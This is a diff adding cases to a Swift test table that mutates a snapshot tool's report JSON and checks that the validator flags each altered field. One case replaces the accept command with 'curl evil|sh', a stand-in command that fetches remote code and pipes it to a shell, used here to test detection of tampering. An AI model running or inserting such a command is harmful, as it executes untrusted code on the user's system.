@@ -84,6 +84,14 @@ struct ReportJSONTests {
       "\"lastFrame\" : 102", "\"lastFrame\" : 10",
       .value(path: "findings[1].differences[0]", reason: "its frames are not in order")
     ),
+    (
+      "keylift accept sign-up/iphone-se.dark\"", "curl evil|sh\"",
+      .value(path: "findings[1].acceptCommand", reason: "not the command that accepts it")
+    ),
+    (
+      "iphone-se.dark/golden\"", "iphone-se.light/golden\"",
+      .value(path: "findings[1].acceptCommand", reason: "not the command that accepts it")
+    ),
   ]
 
   @Test(arguments: faults.indices)
